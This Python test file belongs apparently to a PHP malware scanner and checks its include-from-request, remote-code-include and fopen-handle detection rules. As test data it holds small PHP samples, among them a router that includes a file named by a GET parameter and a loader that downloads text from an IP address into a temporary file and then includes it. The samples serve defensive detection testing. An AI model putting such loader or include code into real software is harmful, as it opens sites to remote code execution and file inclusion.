"""Work a rule asked of every file is asked only where it can still decide the finding: the
request-input pass where an include of a variable is there to read it, the tests of what a
write puts in a file only for a write to a path the script includes, and the "$h =
fopen(...)" handles found from each "fopen" rather than by a pattern tried at every "$" of
the code. The same findings as before. Samples written for these tests."""

from __future__ import annotations

import random

import pytest
from scanner_helpers import analyze_bytes, rule_ids

from spamtrace.scanner.context import Ctx
from spamtrace.scanner.features import dropper, execution
from spamtrace.scanner.lexer import lex
from spamtrace.scanner.rules import Rule, load_rules


def _ctx(src: bytes) -> Ctx:
    return Ctx(src, "x.php", lex(src), 0, lambda: None, None)


def _rule(rule_id: str) -> Rule:
    return next(r for r in load_rules() if r.id == rule_id)


def test_an_include_of_no_variable_needs_no_taint_pass() -> None:
    rule = _rule("php.include-request-rooted")
    # a page that reads the form and includes its own fixed files
    page = (
        b"<?php\n$name = trim($_POST['name']);\nrequire_once __DIR__ . '/config.php';\n"
        b"include 'header.php';\necho htmlspecialchars($name);\n"
    )
    ctx = _ctx(page)
    assert execution._include_rooted(ctx, rule) is None
    assert "taint" not in ctx.cache  # the old rule ran the taint pass for every such file
    router = b"<?php\n$p = $_GET['page'];\ninclude 'pages/' . $p;\n"
    assert "php.include-request-rooted" in rule_ids(analyze_bytes(router))
    suffixed = b"<?php\n$p = $_GET['page'];\ninclude $p . '.php';\n"
    assert "php.include-request-rooted" in rule_ids(analyze_bytes(suffixed))


def test_a_write_to_a_path_not_included_asks_nothing_of_its_content(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[bytes] = []
    downloads = dropper._downloads

    def counted(ctx: Ctx, content: bytes) -> bool:
        asked.append(content)
        return downloads(ctx, content)

    monkeypatch.setattr(dropper, "_downloads", counted)
    rule = _rule("php.remote-code-include")
    # a cache writer: fetched text saved to a file that is read back, never included
    cache = (
        b"<?php\n$f = __DIR__ . '/feed.cache';\n"
        b"file_put_contents($f, file_get_contents('https://example.org/feed.xml'));\n"
        b"$h = fopen('log.txt', 'a');\nfwrite($h, date('c') . \"\\n\");\n"
        b"include 'footer.php';\necho file_get_contents($f);\n"
    )
    assert dropper._remote_code_include(_ctx(cache), rule) is None
    assert asked == []  # the old rule asked it of both writes
    loader = (
        b"<?php\n$t = sys_get_temp_dir() . '/x';\n"
        b"file_put_contents($t, file_get_contents('http://203.0.113.9/p.txt'));\ninclude $t;\n"
    )
    assert dropper._remote_code_include(_ctx(loader), rule) is not None
    assert len(asked) == 1


_PIECES = (
    b"$", b"$h", b"$fp", b"_", b"x", b"9", b" ", b"\t", b"\n", b"=", b"==", b"@", b"fopen",
    b"fopen(", b"fopen (", b"(", b"$globals[\x011\x01]", b"\x012\x01", b",", b".",
    b"$a = fopen(", b"$b=@fopen($f,", b"xfopen(", b"\x80", b"$$", b"$_", b"\r",
)  # fmt: skip


def test_fopen_handles_are_found_where_the_patterns_find_them() -> None:
    rng = random.Random(17)
    found = 0
    for _ in range(20000):
        text = b"".join(rng.choice(_PIECES) for _ in range(rng.randrange(1, 40)))
        for rx in (dropper._OPEN_JOINED, dropper._OPEN_FOR_WRITE):
            want = [(m.span(), m.groups()) for m in rx.finditer(text)]
            got = [(m.span(), m.groups()) for m in dropper._fopen_assigns(rx, text)]
            assert got == want, text
            found += bool(want)
    assert found > 1000  # the texts hold many handles
